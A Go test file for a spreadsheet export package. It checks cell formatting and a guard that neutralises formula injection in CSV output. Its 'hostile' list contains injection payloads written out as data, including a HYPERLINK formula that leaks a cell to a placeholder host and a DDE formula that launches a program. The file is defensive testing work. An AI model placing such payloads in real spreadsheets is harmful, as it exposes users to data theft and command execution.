package sheet

import (
	"math"
	"strings"
	"testing"
	"time"
)

var shanghai = time.FixedZone("CST", 8*3600)

// evening is 19:30 in Shanghai.
var evening = time.Date(2026, 11, 20, 11, 30, 5, 999_000_000, time.UTC)

func TestCellAsText(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		name string
		cell Cell
		want string
	}{
		{"nothing", Cell{}, ""},
		{"text", Text("林小雨"), "林小雨"},
		{"whole number", Int(-58632), "-58632"},
		{"smallest number", Int(math.MinInt64), "-9223372036854775808"},
		{"sum", Money(128000, 2), "1280.00"},
		{"sum below one", Money(7, 2), "0.07"},
		{"nothing paid", Money(0, 2), "0.00"},
		{"refund", Money(-5, 2), "-0.05"},
		{"no minor unit", Money(980, 0), "980"},
		{"three digits", Money(1234567, 3), "1234.567"},
		{"digits below zero", Money(980, -2), "980"},
		{"largest sum", Money(math.MaxInt64, 2), "92233720368547758.07"},
		{"smallest sum", Money(math.MinInt64, 2), "-92233720368547758.08"},
		{"moment in a zone", Time(evening, shanghai), "2026-11-20 19:30:05"},
		{"moment without a zone", Time(evening, nil), "2026-11-20 11:30:05"},
		{"never", Time(time.Time{}, shanghai), ""},
		{"line ends", Text("a\r\nb\rc\n"), "a\nb\nc\n"},
		{"what XML forbids", Text("a\x00\x1b\uFFFEb\uFFFF\tc"), "ab\tc"},
		{"broken UTF-8", Text("a\xffb"), "a\uFFFDb"},
	} {
		t.Run(c.name, func(t *testing.T) {
			if got := c.cell.String(); got != c.want {
				t.Errorf("got %q, want %q", got, c.want)
			}
		})
	}
}

// hostile is text that a spreadsheet would run, or do something else with than show it.
var hostile = []string{
	`=1+1`, `+1+1`, `-1+1`, `@SUM(1)`, "\t=1", "\r=1", "\n=1", "\tharmless",
	`  =1+1`, "\u00a0=1", "\u3000=1", "\u200b=1", "\uFEFF=1", " \r\n=1", "\x00=1", "\x1b\x01 =1",
	`＝1+1`, `＋1`, `－1`, `＠SUM(1)`, ` ＝1`,
	`=HYPERLINK("http://evil.example?x="&A1,"here")`, `=cmd|' /C calc'!A0`, `+8613800138000`, `-`,
}

func TestGuard(t *testing.T) {
	t.Parallel()
	for _, s := range hostile {
		if got := guard(clean(s)); got != "'"+clean(s) {
			t.Errorf("%q became %q", s, got)
		}
	}
	for _, s := range []string{"", "  ", "林小雨", "a=b", "1-2", "'=1", "13800138000", "a@b.com", " a", "* a", "\u200d"} {
		if got := guard(clean(s)); got != s {
			t.Errorf("%q became %q, and is harmless", s, got)
		}
	}
}

// dangerous is what FuzzCSV holds guard to, written another way.
func dangerous(s string) bool {
	if strings.HasPrefix(s, "\t") || strings.HasPrefix(s, "\r") || strings.HasPrefix(s, "\n") {
		return true
	}
	s = strings.TrimLeft(s, " \u00a0\u3000\u200b\uFEFF\t\r\n")
	for _, start := range []string{"=", "+", "-", "@", "＝", "＋", "－", "＠"} {
		if strings.HasPrefix(s, start) {
			return true
		}
	}
	return false
}
